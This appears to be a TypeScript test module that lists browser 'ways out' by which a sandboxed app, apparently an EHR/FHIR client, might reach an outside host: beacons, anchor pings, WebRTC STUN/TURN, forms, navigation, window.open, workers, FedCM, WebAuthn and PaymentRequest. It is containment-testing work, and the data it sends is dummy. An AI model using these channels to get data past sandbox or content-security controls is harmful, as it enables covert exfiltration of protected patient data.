import { call, make, part, type Vector } from './aim.ts';
import { address } from './anywhere-vectors.ts';
import { borrowed } from './borrowed-vectors.ts';
import { fetchOf, put } from './elements.ts';

const https = (host: string): string => `https://${host}/`;

/** Ways out that only a document has: navigation, windows, peers, and what asks the browser for something. */
export const DOCUMENT_ONLY: readonly Vector[] = [
  {
    name: 'fetch-later',
    api: 'fetchLater',
    attempt: ({ host }) => call(globalThis, 'fetchLater', https(host), { activateAfter: 0 }),
  },
  {
    name: 'beacon',
    api: 'sendBeacon',
    attempt: ({ host }) => navigator.sendBeacon(https(host), 'x'),
  },
  {
    name: 'ping',
    api: 'a ping',
    attempt: ({ host, own }) => {
      put('a', { ping: https(host), href: `${own}packs/x.txt`, target: '_blank' }).click();
    },
  },
  {
    name: 'stun',
    api: 'WebRTC, STUN by name',
    attempt: ({ host }) => gather({ urls: `stun:${host}:3478` }),
  },
  {
    name: 'stun-address',
    api: 'WebRTC, STUN by IP address',
    attempt: ({ ip }) => gather({ urls: `stun:${ip}:3478` }),
  },
  {
    name: 'turn-tcp',
    api: 'WebRTC, TURN over TCP',
    attempt: ({ host }) =>
      gather({ urls: `turn:${host}:3478?transport=tcp`, username: 'x', credential: 'x' }),
  },
  {
    name: 'ice-candidate',
    api: 'WebRTC, a peer’s candidate by IP address',
    attempt: ({ ip }) => meet(ip),
  },
  {
    name: 'form-get',
    api: 'form, GET',
    alone: true,
    attempt: ({ host }) => {
      submit({ action: https(host), method: 'get' });
    },
  },
  {
    name: 'form-post-frame',
    api: 'form, POST into an iframe',
    attempt: ({ host }) => {
      put('iframe', { name: 'sink' });
      submit({ action: https(host), method: 'post', target: 'sink' });
    },
  },
  {
    name: 'form-post-window',
    api: 'form, POST into a window',
    attempt: ({ host }) => {
      submit({ action: https(host), method: 'post', target: '_blank' });
    },
  },
  {
    name: 'form-ehr-other-path',
    api: 'form, GET to the EHR’s host outside its FHIR base',
    attempt: ({ ehr, label }) => {
      submit({ action: `${ehr}/other/${label}`, method: 'get', target: '_blank' });
    },
  },
  {
    name: 'location',
    api: 'location',
    alone: true,
    attempt: ({ host }) => {
      location.href = https(host);
    },
  },
  {
    name: 'location-redirect-by-ehr',
    api: 'location of the EHR, which redirects',
    alone: true,
    attempt: ({ host, ehr }) => {
      location.href = `${ehr}/fhir/away?to=${https(host)}`;
    },
  },
  {
    name: 'location-top',
    api: 'top.location',
    alone: true,
    attempt: ({ host }) => {
      call(part(part(globalThis, 'top'), 'location'), 'replace', https(host));
    },
  },
  {
    name: 'navigation-api',
    api: 'navigation.navigate',
    alone: true,
    attempt: ({ host }) => call(part(globalThis, 'navigation'), 'navigate', https(host)),
  },
  {
    name: 'meta-refresh',
    api: 'meta refresh',
    alone: true,
    attempt: ({ host }) =>
      put('meta', { 'http-equiv': 'refresh', content: `0;url=${https(host)}` }, document.head),
  },
  {
    name: 'anchor',
    api: 'a click',
    alone: true,
    attempt: ({ host }) => {
      put('a', { href: https(host) }).click();
    },
  },
  {
    name: 'anchor-new-window',
    api: 'a click, target _blank',
    attempt: ({ host }) => {
      put('a', { href: https(host), target: '_blank' }).click();
    },
  },
  {
    name: 'anchor-download',
    api: 'a download',
    alone: true,
    attempt: ({ host }) => {
      put('a', { href: https(host), download: 'x' }).click();
    },
  },
  { name: 'window', api: 'window.open', attempt: ({ host }) => open(https(host)) },
  {
    name: 'window-noopener',
    api: 'window.open, noopener',
    attempt: ({ host }) => open(https(host), '_blank', 'noopener'),
  },
  {
    name: 'window-blank-fetch',
    api: 'fetch of an empty window',
    attempt: ({ host }) => fetchOf(open('about:blank') ?? {}, https(host)),
  },
  {
    name: 'window-blank-location',
    api: 'location of an empty window',
    attempt: ({ host }) => {
      const opened = open('about:blank');
      if (opened !== null) opened.location.href = https(host);
    },
  },
  ...borrowed('own-refusal', 'the own host’s "not found"', 'no-such'),
  ...borrowed('own-file', 'a file of the app', 'packs/x.txt'),
  ...borrowed('own-script', 'a script of the app', 'assets/hostile-worker.js'),
  ...borrowed('own-root', 'the root of the own host', '../../'),
  ...borrowed('own-launch', 'the launch page', 'index.html'),
  ...borrowed('own-airlock', 'the airlock', 'go.html'),
  ...borrowed('own-ended', 'the page a session ends in', 'ended.html'),
  ...borrowed('own-readiness', 'the readiness page', 'readiness.html'),
  {
    name: 'shared-worker',
    api: 'SharedWorker of the app’s own script, told to fetch',
    attempt: ({ host, own }) => {
      new SharedWorker(address(`${own}assets/hostile-worker.js`)).port.postMessage({
        fetch: https(host),
      });
    },
  },
  {
    name: 'fedcm',
    api: 'navigator.credentials.get, identity',
    attempt: ({ host }) =>
      call(navigator.credentials, 'get', {
        identity: { providers: [{ configURL: `${https(host)}x.json`, clientId: 'x' }] },
      }),
  },
  {
    name: 'web-authn',
    api: 'navigator.credentials.get, publicKey of another host',
    attempt: ({ host }) =>
      navigator.credentials.get({
        publicKey: { rpId: host, challenge: new Uint8Array(16), timeout: 2_000 },
      }),
  },
  {
    name: 'web-authn-create',
    api: 'navigator.credentials.create, publicKey of another host',
    alone: true,
    attempt: ({ host }) =>
      navigator.credentials.create({
        publicKey: {
          rp: { id: host, name: 'x' },
          user: { id: new Uint8Array(16), name: 'x', displayName: 'x' },
          challenge: new Uint8Array(16),
          pubKeyCredParams: [{ type: 'public-key', alg: -7 }],
          timeout: 2_000,
        },
      }),
  },
  {
    name: 'payment',
    api: 'PaymentRequest, a method’s manifest',
    attempt: ({ host }) =>
      call(
        objectOf(
          make('PaymentRequest', [{ supportedMethods: https(host) }], {
            total: { label: 'x', amount: { currency: 'USD', value: '1' } },
          }),
        ),
        'canMakePayment',
      ),
  },
];

function submit(attributes: Readonly<Record<string, string>>): void {
  const form = put('form', attributes);
  put('input', { name: 'x', value: 'x' }, form);
  if (form instanceof HTMLFormElement) form.submit();
}

async function gather(server: RTCIceServer): Promise<void> {
  const peer = new RTCPeerConnection({ iceServers: [server] });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
}

async function meet(ip: string): Promise<void> {
  const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
  one.createDataChannel('x');
  await one.setLocalDescription(await one.createOffer());
  await other.setRemoteDescription(one.localDescription ?? { type: 'offer' });
  await other.setLocalDescription(await other.createAnswer());
  await one.setRemoteDescription(other.localDescription ?? { type: 'answer' });
  await one.addIceCandidate({
    candidate: `candidate:1 1 udp 2113937151 ${ip} 3478 typ host`,
    sdpMid: '0',
  });
}

function objectOf(value: unknown): object {
  if (typeof value !== 'object' || value === null) throw new Error('no object');
  return value;
}
